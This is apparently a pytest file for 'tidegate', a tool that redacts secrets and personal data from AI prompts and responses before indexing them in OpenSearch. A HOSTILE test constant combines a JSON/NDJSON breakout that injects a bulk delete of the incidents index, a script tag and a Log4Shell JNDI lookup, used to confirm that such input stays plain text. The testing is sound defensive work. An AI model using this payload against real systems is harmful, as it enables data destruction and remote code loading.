"""Prompts and answers are masked before they are written, and only the owner's choice keeps originals."""

from __future__ import annotations

import json
from typing import Any

import msgspec
import pytest
from index_builders import an_invocation
from ocsf_schema import violations
from opensearchpy import OpenSearch

from tidegate.index import templates
from tidegate.index.prompts import LONGEST, Prompts, original_in, prompt_bytes
from tidegate.model import Invocation
from tidegate.sources.contents import contents_of

KEY = "AKIA" + "Z7QHTW3NPLKD5XVB"
HOSTILE = '"},"x":1}\n{"delete":{"_index":"tidegate-incidents"}}\n<script>${jndi:ldap://192.0.2.1}</script>'


def asked(text: str, answer: str = "Certainly.", **given: Any) -> Invocation:
    sent = {"messages": [{"role": "user", "content": [{"text": text}]}]}
    told = {"output": {"message": {"role": "assistant", "content": [{"text": answer}]}}}
    return an_invocation(
        input_body=msgspec.Raw(json.dumps(sent).encode()), output_body=msgspec.Raw(json.dumps(told).encode()), **given
    )


def document(call: Invocation, **given: Any) -> dict[str, Any]:
    action, body, rest = prompt_bytes(call, contents_of(call), **given).split(b"\n")
    assert rest == b""
    assert json.loads(action) == {"create": {"_index": "tidegate-prompts-2026.10", "_id": call.id}}
    found: dict[str, Any] = json.loads(body)["tidegate"]
    return found


class Kept:
    def __init__(self) -> None:
        self.objects: dict[str, bytes] = {}

    def keep(self, key: str, body: bytes) -> str:
        self.objects[key] = body
        return f"s3://evidence/{key}"


def test_secrets_and_personal_data_are_masked_on_both_sides_and_named() -> None:
    found = document(asked(f"my key is {KEY}, mail petra.lindqvist@harbour.nl", f"I keep {KEY} for you"))
    assert KEY not in json.dumps(found)
    assert "petra.lindqvist@harbour.nl" not in found["prompt"]
    assert "[aws_access_key]" in found["prompt"]
    assert "[aws_access_key]" in found["response"]
    assert "aws_access_key" in found["labels"]
    assert found["event_uid"] == "request-0"


def test_what_the_organisation_names_is_masked_too() -> None:
    assert "bluebird" not in document(asked("project bluebird"), also=("bluebird",))["prompt"]


def test_hostile_text_stays_a_text() -> None:
    assert HOSTILE.split("\n")[2] in document(asked(HOSTILE))["prompt"]


def test_an_unpaired_surrogate_is_replaced() -> None:
    assert "\\ud800" not in json.dumps(document(asked("x\ud800y")))


def test_a_long_text_is_cut_and_no_secret_shows_at_the_cut() -> None:
    for shift in range(0, 24, 3):
        text = "a " * ((LONGEST - 12 - shift) // 2) + KEY + " b" * 5_000
        prompt = document(asked(text))["prompt"]
        assert "AKIA" not in prompt
        assert len(prompt) < LONGEST


def test_equal_prompts_have_equal_hashes_and_a_secret_does_not_make_them_differ() -> None:
    one, other = document(asked(f"use {KEY}")), document(asked("use AKIA" + "Z7QHTW3NPLKD5XVC", id="request-1"))
    assert one["prompt_hash"] == other["prompt_hash"]


def test_a_call_without_words_has_no_document() -> None:
    call = an_invocation()
    assert prompt_bytes(call, contents_of(call)) == b""


def test_off_writes_nothing_and_opens_nothing() -> None:
    def never(call: Invocation) -> Any:
        raise AssertionError("opened")

    assert list(Prompts("off").documents("b", [asked("hi")], never)) == []


def test_originals_are_kept_only_when_chosen_one_object_a_batch_and_named() -> None:
    kept, calls = Kept(), [asked(f"my key is {KEY}"), asked("second", id="request-1")]
    assert list(Prompts("redacted", kept).documents("b", calls, contents_of))
    assert kept.objects == {}
    first, _ = Prompts("redacted-with-originals", kept).documents("b", calls, contents_of)
    assert json.loads(first.split(b"\n")[1])["tidegate"]["original_ref"] == "s3://evidence/prompts/b.ndjson.gz"
    (data,) = kept.objects.values()
    original = original_in(data, "request-0")
    assert original is not None
    assert KEY in original.prompt
    assert original_in(data, "another") is None


def test_a_prompt_document_is_valid_ocsf() -> None:
    call = asked("hello")
    assert violations(prompt_bytes(call, contents_of(call), original_ref="s3://x")) == []


@pytest.mark.opensearch
def test_a_node_takes_prompts_and_finds_words_and_labels(opensearch: OpenSearch) -> None:
    templates.install(opensearch)
    calls = [asked(HOSTILE + f" bluebird {KEY}"), asked("nothing", id="request-1")]
    body = b"".join(Prompts("redacted").documents("b", calls, contents_of))
    assert not opensearch.bulk(body=body, params={"refresh": "true"})["errors"]
    for query in ({"match": {"tidegate.prompt": "bluebird"}}, {"term": {"tidegate.labels": "aws_access_key"}}):
        (hit,) = opensearch.search(index="tidegate-prompts-*", body={"query": query})["hits"]["hits"]
        assert hit["_id"] == "request-0"
    assert (
        opensearch.count(index="tidegate-prompts-*", body={"query": {"match": {"tidegate.prompt": KEY}}})["count"] == 0
    )
